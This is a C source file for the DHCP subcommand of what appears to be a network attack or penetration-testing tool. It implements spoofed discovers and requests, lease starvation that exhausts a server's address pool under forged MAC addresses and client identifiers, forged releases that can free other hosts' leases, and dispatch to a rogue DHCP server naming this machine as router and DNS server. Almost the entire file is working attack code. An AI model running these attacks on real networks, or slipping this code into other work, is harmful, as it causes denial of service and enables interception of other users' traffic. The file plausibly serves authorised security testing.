/* The client side of DHCP as an attacker plays it: discover with any identity, take a lease, take all of them, give
 * them back. The rogue server is in dhcprogue.c, the bytes in dhcpwire.c.
 */
#include "dhcp.h"

#include "dhcprogue.h"
#include "literal.h"
#include "subcommands.h"

#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const struct flag flags[] = {
    {"--interface", "NAME", "the interface (that of the default route)"},
    {"--client-id", "TEXT", "client identifier (escapes: \\xNN)"},
    {"--hostname", "NAME", "the host name to claim"},
    {"--mac", "MAC", "the hardware address in the message (the interface's own)"},
    {"--ether-source", "MAC", "the frame's source MAC (the interface's own)"},
    {"--unicast-reply", NULL, "do not set the broadcast flag"},
    {"--request-ip", "ADDRESS", "discover, request: ask for this address"},
    {"--server", "ADDRESS", "release: the server to tell"},
    {"--count", "N", "starve: leases to take (254)"},
    {"--same-mac", NULL, "starve: vary the client identifier alone, not the MAC in the message"},
    {"--discover-only", NULL, "starve: take offers, no leases"},
    {"--release", NULL, "starve, request: give back at the end what was taken"},
    {"--offer", "ADDRESS", "rogue: the address to offer"},
    {"--router", "ADDRESS", "rogue: the router to name (this machine)"},
    {"--name-server", "ADDRESS", "rogue: the DNS server to name (this machine)"},
    {"--for-mac", "MAC", "rogue: serve this client alone"},
    {NULL, NULL, NULL},
};

enum { SERVER_PORT = 67, CLIENT_PORT = 68 };

static const uint8_t everyone[6] = {255, 255, 255, 255, 255, 255};

int dhcp_send(const struct ether *ether, const struct dhcpwire *message, const uint8_t ether_source[6],
              const struct endpoint *source, const struct endpoint *destination, const uint8_t to_mac[6],
              struct outcome *outcome)
{
    uint8_t bytes[DHCPWIRE_MESSAGE];
    size_t size = dhcpwire_write(message, bytes);
    struct wire_ip ip = {.source = {.family = AF_INET}, .destination = {.family = AF_INET}, .protocol = IPPROTO_UDP};
    struct wire_ether header = {.type = 0x0800};
    struct frame frame = {.size = 0};

    ip.destination.ip.v4.s_addr = INADDR_BROADCAST;
    if (source) {
        ip.source = *source;
    }
    if (destination) {
        ip.destination = *destination;
    }
    ip.id = (uint16_t)message->transaction;
    memcpy(header.destination, to_mac ? to_mac : everyone, 6);
    memcpy(header.source, ether_source, 6);
    wire_put_ether(&frame, &header);
    wire_put_ip(&frame, &ip, size + 8);
    wire_put_udp(&frame, &ip, message->reply ? SERVER_PORT : CLIENT_PORT, message->reply ? CLIENT_PORT : SERVER_PORT,
                 bytes, size);
    return ether_send(ether, &frame, outcome);
}

int dhcp_receive(const struct ether *ether, struct deadline deadline, bool from_server, struct dhcpwire *ret_message,
                 struct dissected *ret_packet)
{
    /* The packet's pointers reach into this frame; no caller follows them. */
    struct frame frame;
    int ready;

    while ((ready = ether_receive(ether, deadline, &frame, ret_packet)) > 0) {
        uint16_t port = from_server ? CLIENT_PORT : SERVER_PORT;
        if (ret_packet->has_ip && ret_packet->protocol == IPPROTO_UDP && ret_packet->destination.port == port &&
            dhcpwire_read(ret_packet->payload, ret_packet->payload_size, ret_message) &&
            ret_message->reply == from_server) {
            ret_packet->payload = NULL;
            ret_packet->payload_size = 0;
            return 1;
        }
    }
    return ready;
}

static void write_address(struct jsonline *line, const char *key, const uint8_t address[4])
{
    struct endpoint endpoint = endpoint_from_v4(address);
    char text[ENDPOINT_TEXT];

    jsonline_text(line, key, endpoint_text(&endpoint, text));
}

void dhcp_write(struct jsonline *line, const char *key, const struct dhcpwire *message)
{
    char mac[LITERAL_MAC_TEXT];

    jsonline_open_object(line, key);
    jsonline_number(line, "type", message->type);
    jsonline_text(line, "client_mac", literal_mac_text(message->mac, mac));
    write_address(line, "address", message->yours);
    if (message->has_server) {
        write_address(line, "server", message->server);
    }
    if (message->has_router) {
        write_address(line, "router", message->router);
    }
    jsonline_open_array(line, "name_servers");
    for (size_t i = 0; i < message->name_server_count; i++) {
        write_address(line, NULL, message->name_servers[i]);
    }
    jsonline_close_array(line);
    jsonline_number(line, "lease_seconds", message->lease_seconds);
    jsonline_text(line, "domain", message->domain);
    jsonline_text(line, "host_name", message->host_name);
    jsonline_close_object(line);
}

/* Who asks: read from the flags once, varied by the starvation. */
struct client {
    const struct request *request;
    struct ether ether;
    uint8_t ether_source[6];
    struct dhcpwire identity;
};

static int read_identity(struct client *client, struct outcome *outcome)
{
    const struct request *request = client->request;
    struct dhcpwire *identity = &client->identity;
    struct endpoint wanted = {0};

    memcpy(client->ether_source, client->ether.mac, 6);
    memcpy(identity->mac, client->ether.mac, 6);
    identity->broadcast = !request_has(request, "--unicast-reply");
    if (request_mac(request, "--mac", identity->mac, outcome) < 0 ||
        request_mac(request, "--ether-source", client->ether_source, outcome) < 0 ||
        request_endpoint(request, "--request-ip", &wanted, outcome) < 0 ||
        request_bytes(request, "--client-id", identity->client_id, DHCPWIRE_CLIENT_ID, &identity->client_id_size,
                      outcome) < 0) {
        return -1;
    }
    (void)snprintf(identity->host_name, DHCPWIRE_TEXT, "%s", request_text(request, "--hostname", ""));
    if (wanted.family == AF_INET) {
        identity->has_requested = true;
        memcpy(identity->requested, &wanted.ip.v4, 4);
    }
    return 0;
}

/* Sends one message of the client's and waits for the server's to the same transaction. 1 it came, 0 silence, -1. */
static int ask(struct client *client, const struct dhcpwire *question, struct deadline step,
               struct dhcpwire *ret_answer, struct outcome *outcome)
{
    struct dissected packet;
    int ready;

    if (dhcp_send(&client->ether, question, client->ether_source, NULL, NULL, NULL, outcome) < 0) {
        return -1;
    }
    while ((ready = dhcp_receive(&client->ether, step, true, ret_answer, &packet)) > 0) {
        if (ret_answer->transaction == question->transaction) {
            return 1;
        }
    }
    return ready < 0 ? outcome_fail(outcome, errno, "receiving frames: %s", strerror(errno)) : 0;
}

/* The offer to a discover; asked up to three times. */
static int discover(struct client *client, struct dhcpwire *identity, int step_ms, struct dhcpwire *ret_offer,
                    struct outcome *outcome)
{
    int came = 0;

    identity->type = DHCPWIRE_DISCOVER;
    identity->has_server = false;
    identity->transaction = token_random(0); /* one for all attempts: a late offer still counts */
    for (int attempt = 0; attempt < 3 && came == 0 && deadline_left_ms(client->request->deadline) > 0; attempt++) {
        came = ask(client, identity, deadline_step_ms(client->request->deadline, step_ms), ret_offer, outcome);
    }
    return came;
}

/* The server's answer to the request for what it offered. */
static int take_lease(struct client *client, struct dhcpwire *identity, const struct dhcpwire *offer, int step_ms,
                      struct dhcpwire *ret_answer, struct outcome *outcome)
{
    identity->type = DHCPWIRE_REQUEST;
    identity->has_requested = true;
    identity->has_server = offer->has_server;
    memcpy(identity->requested, offer->yours, 4);
    memcpy(identity->server, offer->server, 4);
    return ask(client, identity, deadline_step_ms(client->request->deadline, step_ms), ret_answer, outcome);
}

static int give_back(struct client *client, const struct dhcpwire *identity, const struct dhcpwire *lease,
                     struct outcome *outcome)
{
    struct dhcpwire message = *identity;
    struct endpoint source = endpoint_from_v4(lease->yours);
    struct endpoint server = endpoint_from_v4(lease->server);

    message.type = DHCPWIRE_RELEASE;
    message.transaction = token_random(0);
    message.has_requested = false;
    message.has_server = true;
    memcpy(message.server, lease->server, 4);
    memcpy(message.client, lease->yours, 4);
    /* As a broadcast frame: it has to reach the server whatever ARP believes by now. */
    return dhcp_send(&client->ether, &message, client->ether_source, &source, &server, NULL, outcome);
}

static int run_discover(struct client *client, bool lease, struct outcome *outcome)
{
    struct dhcpwire offer;
    struct dhcpwire answer;
    int came = discover(client, &client->identity, client->request->timeout_ms / 3, &offer, outcome);

    if (came < 0) {
        return -1;
    }
    if (came > 0) {
        dhcp_write(&outcome->evidence, "offer", &offer);
        outcome_say(outcome, VERDICT_REACHABLE, 0);
    } else {
        outcome_say(outcome, VERDICT_DROPPED, ETIMEDOUT);
    }
    if (came == 0 || !lease) {
        return 0;
    }
    came = take_lease(client, &client->identity, &offer, client->request->timeout_ms, &answer, outcome);
    if (came < 0) {
        return -1;
    }
    outcome_say(outcome,
                came == 0                     ? VERDICT_DROPPED
                : answer.type == DHCPWIRE_ACK ? VERDICT_REACHABLE
                                              : VERDICT_REFUSED,
                came == 0 ? ETIMEDOUT : 0);
    if (came > 0) {
        dhcp_write(&outcome->evidence, "answer", &answer);
        if (answer.type == DHCPWIRE_ACK && request_has(client->request, "--release")) {
            return give_back(client, &client->identity, &answer, outcome);
        }
    }
    return 0;
}

static int run_release(struct client *client, struct outcome *outcome)
{
    struct dhcpwire lease = {0};
    struct endpoint server = client->ether.gateway;

    if (request_endpoint(client->request, "--server", &server, outcome) < 0) {
        return -1;
    }
    if (!client->identity.has_requested || server.family != AF_INET) {
        return outcome_usage(outcome, "release needs --request-ip ADDRESS and --server ADDRESS");
    }
    memcpy(lease.yours, client->identity.requested, 4);
    memcpy(lease.server, &server.ip.v4, 4);
    if (give_back(client, &client->identity, &lease, outcome) < 0) {
        return -1;
    }
    outcome_say(outcome, VERDICT_DONE, 0);
    return 0;
}

/* What the starvation has taken, to be given back. */
struct taken {
    struct dhcpwire identity;
    struct dhcpwire lease;
};

enum { MOST_LEASES = 1024 };

/* Another client each time: the identifier differs, and the MAC in the message unless it may not. */
static struct dhcpwire disguise(const struct client *client, uint64_t number, unsigned salt)
{
    struct dhcpwire identity = client->identity;
    char text[DHCPWIRE_CLIENT_ID - 1];
    int length = snprintf(text, sizeof(text), "%08x-%llu", salt, (unsigned long long)number);

    identity.client_id[0] = 0;
    memcpy(identity.client_id + 1, text, (size_t)length);
    identity.client_id_size = 1 + (size_t)length;
    if (!request_has(client->request, "--same-mac")) {
        identity.mac[0] = 0x02;
        identity.mac[1] = (uint8_t)(salt >> 8);
        identity.mac[2] = (uint8_t)salt;
        identity.mac[3] = (uint8_t)(number >> 16);
        identity.mac[4] = (uint8_t)(number >> 8);
        identity.mac[5] = (uint8_t)number;
    }
    return identity;
}

/* Takes leases until the count, two silences in a row, or the budget. Returns how many are in `all`, or -1. */
static int64_t take_all(struct client *client, struct taken *all, uint64_t count, struct outcome *outcome)
{
    bool lease = !request_has(client->request, "--discover-only");
    unsigned salt = token_random(0);
    int64_t offers = 0;
    int64_t leases = 0;
    int64_t refused = 0;
    int silent = 0;

    for (uint64_t number = 0; number < count && silent < 2 && deadline_left_ms(client->request->deadline) > 0;
         number++) {
        struct taken *now = &all[leases];
        struct dhcpwire offer;

        now->identity = disguise(client, number, salt);
        int came = discover(client, &now->identity, 700, &offer, outcome);
        offers += came > 0;
        silent = came > 0 ? 0 : silent + 1;
        if (came > 0 && lease) {
            came = take_lease(client, &now->identity, &offer, 1000, &now->lease, outcome);
            refused += came > 0 && now->lease.type == DHCPWIRE_NAK;
            leases += came > 0 && now->lease.type == DHCPWIRE_ACK;
        }
        if (came < 0) {
            return -1;
        }
    }
    jsonline_number(&outcome->evidence, "offers", offers);
    jsonline_number(&outcome->evidence, "leases", leases);
    jsonline_number(&outcome->evidence, "refused", refused);
    outcome_say(outcome, offers ? VERDICT_REACHABLE : VERDICT_DROPPED, offers ? 0 : ETIMEDOUT);
    return leases;
}

static int run_starve(struct client *client, struct outcome *outcome)
{
    uint64_t count;

    if (request_number(client->request, "--count", 1, MOST_LEASES, 254, &count, outcome) < 0) {
        return -1;
    }
    struct taken *all = calloc(count, sizeof(*all));
    if (!all) {
        return outcome_fail(outcome, ENOMEM, "no memory for %llu leases", (unsigned long long)count);
    }
    int64_t leases = take_all(client, all, count, outcome);
    int failed = leases < 0 ? -1 : 0;
    if (leases > 0) {
        dhcp_write(&outcome->evidence, "first", &all[0].lease);
        dhcp_write(&outcome->evidence, "last", &all[leases - 1].lease);
    }
    for (int64_t i = 0; !failed && request_has(client->request, "--release") && i < leases; i++) {
        failed = give_back(client, &all[i].identity, &all[i].lease, outcome);
    }
    free(all);
    return failed;
}

static int dispatch(struct client *client, const char *word, struct outcome *outcome)
{
    if (strcmp(word, "discover") == 0) {
        return run_discover(client, false, outcome);
    }
    if (strcmp(word, "request") == 0) {
        return run_discover(client, true, outcome);
    }
    if (strcmp(word, "release") == 0) {
        return run_release(client, outcome);
    }
    if (strcmp(word, "starve") == 0) {
        return run_starve(client, outcome);
    }
    if (strcmp(word, "rogue") == 0) {
        return dhcprogue_run(client->request, &client->ether, outcome);
    }
    return outcome_usage(outcome, "dhcp discover, request, release, starve or rogue");
}

static int run(const struct request *request, struct outcome *outcome)
{
    struct client client = {.request = request, .ether = {.fd = -1}};
    int failed = -1;

    if (ether_open(request_text(request, "--interface", NULL), &client.ether, outcome) == 0 &&
        ether_promiscuous(&client.ether, outcome) == 0 && read_identity(&client, outcome) == 0) {
        failed = dispatch(&client, request->words[0], outcome);
    }
    ether_close(&client.ether);
    return failed;
}

const struct subcommand subcommand_dhcp = {
    .name = "dhcp",
    .arguments = "discover|request|release|starve|rogue",
    .summary = "DHCP: ask, take a lease, take them all, or play the server",
    .flags = flags,
    .min_words = 1,
    .max_words = 1,
    .timeout_ms = 6000,
    .run = run,
};
